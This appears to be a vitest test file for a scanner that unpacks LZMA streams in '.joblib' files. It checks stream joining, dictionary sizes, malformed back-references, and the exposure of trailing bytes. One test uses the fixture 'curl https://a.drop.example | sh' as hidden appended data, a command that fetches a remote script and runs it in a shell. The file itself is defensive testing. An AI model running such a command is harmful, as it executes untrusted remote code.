import { describe, expect, it } from 'vitest';
import { expandLayers } from '../../../src/static/layers/expand.ts';

const { signal } = new AbortController();

/** What liblzma wrote, in Base64, and what Python's `lzma.open` reads of it. */
const FIRST = 'XQAAAQD//////////wAzGkqsDHK/fa4CuVLjgk9Bb6dbgL6fhQD///3tMAA=';
const FIRST_OF_KNOWN_SIZE = 'XQAAAQA2AAAAAAAAAAAzGkqsDHK/fa4CuVLjgk9Bb6dbgL6fhQD///3tMAA=';
const SECOND = 'XQAAAQD//////////wA5mUiRsWmWB8mXoUY28FKdRt+AeN7//nIYAA==';
const FIRST_TEXT = 'first half of it, first half of it, first half of it, ';
const SECOND_TEXT = 'second half of it';

function bytesOf(...parts: readonly string[]): Buffer {
  return Buffer.concat(parts.map((part) => Buffer.from(part, 'base64')));
}

async function opened(content: Uint8Array): Promise<readonly (readonly [path: string, text: string])[]> {
  const tasks = await expandLayers([{ path: 'a.joblib', content, unit: '.' }], signal);
  return tasks.slice(1).map((task) => [task.path, Buffer.from(task.content).toString('latin1')] as const);
}

describe('streams of LZMA', () => {
  it('are unpacked', async () => {
    expect(await opened(bytesOf(FIRST))).toEqual([['a.joblib!/a.joblib', FIRST_TEXT]]);
  });

  it.each([
    ['that end with a mark', FIRST],
    ['of a known size that end with a mark all the same', FIRST_OF_KNOWN_SIZE],
  ])('%s are put together with those behind them', async (_what, first) => {
    expect(await opened(bytesOf(first, SECOND))).toEqual([
      ['a.joblib!/a.joblib', `${FIRST_TEXT}${SECOND_TEXT}`],
    ]);
  });

  it('leave what is none behind them to be seen', async () => {
    const junk = Buffer.from('curl https://a.drop.example | sh').toString('base64');
    expect(await opened(bytesOf(FIRST, junk))).toEqual([
      ['a.joblib!/a.joblib', FIRST_TEXT],
      ['a.joblib@44:appended', 'curl https://a.drop.example | sh'],
    ]);
  });

  it.each([0, 0x100, 0x300, 0x180000, 0xffffffff])('may say a dictionary of %i bytes', async (size) => {
    const bytes = bytesOf(FIRST);
    bytes.writeUInt32LE(size, 1);
    expect(await opened(bytes)).toEqual([['a.joblib!/a.joblib', FIRST_TEXT]]);
  });

  it('do not reach back into the stream before', async () => {
    const bytes = bytesOf(FIRST, SECOND);
    // The first symbol of the second stream becomes a match.
    bytes.fill(0xff, 44 + 14, 44 + 18);
    const tasks = await expandLayers([{ path: 'a.joblib', content: bytes, unit: '.' }], signal);
    expect(tasks[0]?.opened?.shortfalls.map(({ reason }) => reason)).toEqual([
      'not a readable LZMA stream: it repeats what is not there',
    ]);
  });
});
